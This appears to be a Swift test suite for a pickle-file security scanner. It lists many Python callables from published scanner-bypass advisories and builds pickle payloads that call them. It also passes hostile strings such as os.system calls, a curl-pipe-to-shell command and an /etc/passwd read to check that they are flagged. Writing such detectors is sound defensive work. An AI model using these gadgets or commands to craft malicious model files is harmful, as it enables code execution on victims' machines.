// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import MartletBytes
import MartletEvidence
import MartletScan
import Testing

/// A callable of a published advisory or list, and what its call is.
struct Gadget: CustomTestStringConvertible, Sendable {
  let advisory: String
  let module: String
  let name: String

  var testDescription: String { "\(advisory) \(module).\(name)" }

  /// One line each: advisory, module, name.
  static func list(_ text: String) -> [Gadget] {
    text.split(separator: "\n").map { line in
      let words = line.split(separator: " ").map(String.init)
      return Gadget(advisory: words[0], module: words[1], name: words[2])
    }
  }

  /// Its call through REDUCE, popped, through INST, OBJ and NEWOBJ.
  var calls: [Bytes] {
    [
      PickleBuilder.make(4, .stackGlobal(module, name), .text("x"), .tuple1, "R."),
      PickleBuilder.make(2, .global(module, name), "(S'x'\ntR0N."),
      PickleBuilder.make(0, "(S'x'\n", .inst(module, name), "."),
      PickleBuilder.make(1, "(", .global(module, name), "S'x'\no0N."),
      PickleBuilder.make(4, .stackGlobal(module, name), .text("x"), .tuple1, .newObj, "0N."),
    ]
  }
}

/// Every advisory of picklescan and fickling that names a callable: never safe, and unsafe.
@Suite struct PickleAdvisoryTests {
  /// https://github.com/mmaitre314/picklescan/security/advisories and its test data.
  static let picklescan = Gadget.list(
    """
    GHSA-4r9r-ch6f-vxmx torch.utils.bottleneck.__main__ run_cprofile
    GHSA-4whj-rm5r-c2v8 torch.utils.bottleneck.__main__ run_autograd_prof
    GHSA-86cj-95qr-2p4f torch._dynamo.guards GuardBuilder.get
    GHSA-f4x7-rfwp-v3xw torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression
    GHSA-f745-w6jp-hpxx torch.utils.collect_env run
    GHSA-jhph-76pp-mggw torch.utils.collect_env run_and_read_all
    GHSA-h3qp-7fh3-f8h4 torch.utils.data.datapipes.utils.decoder basichandlers
    GHSA-vr7h-p6mm-wpmh torch.jit.unsupported_tensor_ops execWrapper
    GHSA-vv6j-3g6g-2pvj torch.utils._config_module ConfigModule.load_config
    GHSA-5qwp-399c-mjwf trace Trace.run
    GHSA-g344-hcph-8vgg trace Trace.runctx
    GHSA-x696-vm39-cp64 profile Profile.run
    GHSA-6vqj-c2q5-j97w profile Profile.runctx
    GHSA-7wx9-6375-f5wh profile run
    GHSA-9w88-8rmg-7g2p cProfile runctx
    GHSA-49gj-c84q-6qm9 cProfile run
    GHSA-f54q-57x4-jg88 lib2to3.pgen2.grammar Grammar.loads
    GHSA-p9w7-82w4-7q8m lib2to3.pgen2.pgen ParserGenerator.make_label
    GHSA-3vg9-h568-4w9m idlelib.debugobj ObjectTreeItem.SetText
    GHSA-6w4w-5w54-rjvr idlelib.autocomplete AutoComplete.get_entity
    GHSA-7cq8-mj8x-j263 idlelib.autocomplete AutoComplete.fetch_completions
    GHSA-8r4j-24qv-fmq9 idlelib.calltip Calltip.fetch_tip
    GHSA-9xph-j2h6-g47v idlelib.calltip get_entity
    GHSA-m869-42cg-3xwr idlelib.run Executive.runcode
    GHSA-j343-8v2j-ff7w idlelib.pyshell ModifiedInterpreter.runcommand
    GHSA-3gf5-cxq9-w223 idlelib.pyshell ModifiedInterpreter.runcode
    GHSA-cj3c-v495-4xqh code InteractiveInterpreter.runcode
    GHSA-xp4f-hrf8-rxw7 ensurepip _run_pip
    GHSA-fqq6-7vqf-w3fg doctest debug_script
    GHSA-v7x6-rv5q-mhwc timeit timeit
    GHSA-m273-6v24-x4m4 distutils.file_util write_file
    GHSA-4675-36f9-wf6r ctypes CDLL
    GHSA-84r2-jw7c-4r5q pydoc locate
    GHSA-84r2-jw7c-4r5q operator methodcaller
    GHSA-955r-x9j8-7rhh _operator methodcaller
    GHSA-46h3-79wf-xr6c _operator attrgetter
    GHSA-vqmv-47xg-9wpr pty spawn
    GHSA-r8g5-cgf2-4m4m numpy.f2py.crackfortran getlincoef
    GHSA-vvpj-8cmc-gx39 pkgutil resolve_name
    GHSA-g38g-8gr9-h9xp uuid _get_command_stdout
    GHSA-g38g-8gr9-h9xp _osx_support _read_output
    GHSA-g38g-8gr9-h9xp _osx_support _find_build_tool
    GHSA-g38g-8gr9-h9xp _aix_support _read_cmd_output
    GHSA-g38g-8gr9-h9xp imaplib IMAP4_stream
    GHSA-g38g-8gr9-h9xp _pyrepl.pager pipe_pager
    GHSA-g38g-8gr9-h9xp _pyrepl.pager tempfile_pager
    GHSA-g38g-8gr9-h9xp test.support.script_helper assert_python_ok
    GHSA-9726-w42j-3qjr _io FileIO
    GHSA-9726-w42j-3qjr urllib.request urlopen
    GHSA-m7j5-r2p5-c39r logging FileHandler
    GHSA-9m3x-qqw2-h32h types CodeType
    GHSA-9m3x-qqw2-h32h cloudpickle.cloudpickle _make_function
    GHSA-9m3x-qqw2-h32h cloudpickle.cloudpickle _builtin_type
    GHSA-9m3x-qqw2-h32h cloudpickle.cloudpickle _function_setstate
    GHSA-9m3x-qqw2-h32h cloudpickle.cloudpickle _make_empty_cell
    GHSA-9m3x-qqw2-h32h cloudpickle.cloudpickle subimport
    GHSA-655q-fx9r-782v pip main
    GHSA-q77w-mwjj-7mqx asyncio.unix_events _UnixSubprocessTransport._start
    CVE-2025-10157 asyncio.unix_events _UnixSubprocessTransport
    data:malicious1 builtins eval
    data:malicious1 __builtin__ eval
    data:malicious2 posix system
    data:malicious3 http.client HTTPSConnection
    data:malicious3 httplib HTTPSConnection
    data:malicious4 requests.api get
    data:malicious5 aiohttp.client ClientSession
    data:malicious6 socket create_connection
    data:malicious7 subprocess run
    data:malicious8 sys exit
    data:malicious10 __builtin__ exec
    data:malicious13 _pickle loads
    data:malicious14 runpy _run_code
    data:malicious15 bdb Bdb.run
    data:malicious17 torch._inductor.codecache compile_file
    data:malicious18 pydoc pipepager
    data:malicious19 torch.serialization load
    data:malicious20 venv create
    data:malicious21 timeit timeit
    data:malicious22 numpy.testing._private.utils runstring
    list webbrowser open
    list ssl get_server_certificate
    list shutil rmtree
    list commands getoutput
    list nt system
    list pdb run
    """)

  /// https://github.com/trailofbits/fickling/security/advisories and its lists.
  static let fickling = Gadget.list(
    """
    GHSA-r7v6-mfhq-g3m2 pty spawn
    GHSA-565g-hwwr-4pp3 marshal loads
    GHSA-565g-hwwr-4pp3 types FunctionType
    GHSA-wfq2-52f7-7qvj runpy run_path
    GHSA-wfq2-52f7-7qvj runpy run_module
    GHSA-q5qq-mvfm-j35x importlib import_module
    GHSA-q5qq-mvfm-j35x code interact
    GHSA-q5qq-mvfm-j35x multiprocessing.util spawnv_passfds
    GHSA-p523-jq9w-64x9 cProfile run
    GHSA-5hvc-6wx8-mvv4 pydoc locate
    GHSA-5hvc-6wx8-mvv4 ctypes windll
    GHSA-h4rm-mm56-xf63 builtins __import__
    GHSA-mxhj-88fx-4pcv smtplib SMTP
    GHSA-mhc9-48gj-9gp3 signal signal
    GHSA-mhc9-48gj-9gp3 socketserver TCPServer
    GHSA-mhc9-48gj-9gp3 ftplib FTP
    GHSA-mhc9-48gj-9gp3 telnetlib Telnet
    GHSA-mhc9-48gj-9gp3 sqlite3 connect
    GHSA-mhc9-48gj-9gp3 poplib POP3
    GHSA-mhc9-48gj-9gp3 nntplib NNTP
    GHSA-5hwf-rc88-82xm uuid _get_command_stdout
    GHSA-5cxw-w2xg-2m8h platform popen
    GHSA-5cxw-w2xg-2m8h platform _syscmd_ver
    GHSA-r48f-3986-4f9c linecache getline
    GHSA-r48f-3986-4f9c gc get_objects
    GHSA-r48f-3986-4f9c linecache updatecache
    GHSA-6ggj-6f2q-f7mx _posixsubprocess fork_exec
    GHSA-6ggj-6f2q-f7mx _sqlite3 connect
    GHSA-6ggj-6f2q-f7mx _thread start_new_thread
    GHSA-6ggj-6f2q-f7mx _frozen_importlib _gcd_import
    GHSA-6ggj-6f2q-f7mx _frozen_importlib_external SourceFileLoader
    GHSA-6ggj-6f2q-f7mx _imp create_dynamic
    GHSA-6ggj-6f2q-f7mx _interpreters exec
    GHSA-6ggj-6f2q-f7mx _xxsubinterpreters run_string
    GHSA-6ggj-6f2q-f7mx _ctypes dlopen
    GHSA-6ggj-6f2q-f7mx _signal pthread_kill
    GHSA-5j3x-jp52-966f os path.os.system
    modelscan#330 numpy __builtins__
    modelscan#331 importlib import_module
    modelscan#346 mailcap findmatch
    list pipes Template.open
    list compileall compile_file
    list py_compile compile
    list zipimport zipimporter
    list site addsitedir
    list unittest.mock _importer
    list inspect getsource
    list filecmp cmp
    list fileinput input
    list glob glob
    list tempfile mktemp
    list shelve open
    list tarfile open
    list zipfile ZipFile
    list syslog syslog
    list selectors DefaultSelector
    list mmap mmap
    list pexpect run
    list dill loads
    list joblib load
    list codeop compile_command
    """)

  /// Functions that run code, start processes, touch files, open connections or resolve names, in Python itself and in
  /// what is installed beside it. arXiv 2508.19774 and the lists of modelaudit name their kinds.
  static let others = Gadget.list(
    """
    run rlcompleter Completer.complete
    run dataclasses make_dataclass
    run functools reduce
    run operator call
    run typing get_type_hints
    run turtle Turtle
    run tkinter Tcl
    run pstats Stats
    run gettext translation
    run new function
    run concurrent.interpreters create
    run pandas eval
    run pandas.core.computation.eval eval
    run pandas.core.frame DataFrame.query
    run numexpr evaluate
    run sympy sympify
    run sympy.parsing.sympy_parser parse_expr
    run jinja2.sandbox Template
    run mako.template Template
    run IPython.core.interactiveshell InteractiveShell.run_cell
    run yaml unsafe_load
    run PIL.ImageMath eval
    run torch compile
    run torch.jit load
    run torch._C import_ir_module
    run torch.distributed.rpc rpc_sync
    run cffi FFI
    run tensorflow.python.ops.script_ops py_func
    run keras.layers Lambda
    run distributed.worker apply_function
    process os fork
    process posix posix_spawn
    process multiprocessing.context Process
    process concurrent.futures.thread ThreadPoolExecutor
    process antigravity geohash
    process setuptools.sandbox run_setup
    process distutils.spawn spawn
    process setuptools._distutils.spawn spawn
    process numpy.distutils.exec_command exec_command
    process psutil Popen
    process pexpect spawn
    process sh Command
    process torch.utils.cpp_extension load_inline
    process torch.ops load_library
    process numpy.ctypeslib load_library
    process time sleep
    file builtins open
    file io open
    file pathlib Path.write_text
    file pathlib PosixPath.unlink
    file numpy fromfile
    file numpy savetxt
    file numpy ndarray.tofile
    file numpy.lib._npyio_impl genfromtxt
    file numpy.lib.format open_memmap
    file torch save
    file torch from_file
    file pandas read_csv
    file pandas.io.parsers.readers read_csv
    file pandas.core.generic NDFrame.to_csv
    file gzip open
    file xml.etree.ElementTree parse
    file matplotlib.pyplot savefig
    file PIL.Image open
    file h5py File
    file scipy.io loadmat
    file sklearn.datasets load_files
    file argparse FileType
    network requests get
    network urllib2 urlopen
    network xmlrpc.client ServerProxy
    network huggingface_hub snapshot_download
    network torch.hub load
    network nltk.downloader download
    network paramiko SSHClient
    resolve builtins getattr
    resolve builtins setattr
    resolve builtins globals
    resolve codecs lookup
    resolve hydra.utils instantiate
    resolve django.utils.module_loading import_string
    resolve werkzeug.utils import_string
    resolve torch._utils _import_dotted_name
    load pickle loads
    load _pickle Unpickler
    load cPickle loads
    load dill._dill loads
    load numpy load
    load joblib.numpy_pickle load
    load pandas read_pickle
    load pandas.compat.pickle_compat load
    load torch load
    load keras.models load_model
    load xgboost.core Booster.load_model
    load mlflow.pyfunc load_model
    load torch.package PackageImporter
    tamper sys setrecursionlimit
    tamper atexit register
    tamper weakref finalize
    tamper copyreg add_extension
    tamper picklescan.scanner scan_bytes
    tamper fickling.hook run_hook
    tamper modelscan.modelscan ModelScan
    tamper warnings filterwarnings
    tamper logging disable
    """)

  @Test(arguments: picklescan + fickling + others) func aPublishedGadgetIsUnsafe(_ gadget: Gadget) {
    for bytes in gadget.calls {
      let report = bytes.scanned
      #expect(report.verdict == .unsafe, "\(report.artifacts.flatMap(\.findings))")
    }
  }

  /// What nobody listed: the call itself tells.
  @Test(arguments: [
    ("some.helpers", "run_command", "x"), ("vendor.tools", "exec_string", "x"),
    ("vendor.tools", "Loader", "__import__('os').system('id')"),
    ("vendor.tools", "make", "curl http://h/x | sh"),
    ("vendor.tools", "fetch", "https://host.invalid/x"), ("vendor.tools", "read", "/etc/passwd"),
    ("vendor.tools", "render", "{{ ''.__class__ }}"), ("vendor.tools", "apply", "import os; os.system('id')"),
    ("vendor.tools", "Popen", "bash -c 'id'"), ("vendor.tools", "load", "model.pkl"),
  ]) func anUnlistedCallThatLooksLikeAnAttackIsUnsafe(_ module: String, _ name: String, _ text: String) {
    let bytes = PickleBuilder.make(4, .stackGlobal(module, name), .text(text), .tuple1, "R.")
    #expect(bytes.verdict == .unsafe)
    #expect(bytes.rules.contains("MRT-PKL-016"))
  }

  /// What an unlisted class of an ordinary model gets is no attack.
  @Test(arguments: [
    ("mypackage.models", "Config", "a sentence; with (all) sorts of words"),
    ("mypackage", "Model", "resnet50"),
    ("mypackage.data", "Dataset", "/data/train"), ("mypackage._rebuild", "_rebuild_model", "layer1.weight"),
    ("numpy", "ones", "float32"), ("mypackage", "Tokenizer", "https://huggingface.co/x"),
  ]) func anUnlistedCallOfAnOrdinaryModelIsUnknown(_ module: String, _ name: String, _ text: String) {
    let bytes = PickleBuilder.make(4, .stackGlobal(module, name), .text(text), .tuple1, "R.")
    #expect(bytes.verdict == .unknown, "\(bytes.scanned.artifacts[0].findings)")
  }
}
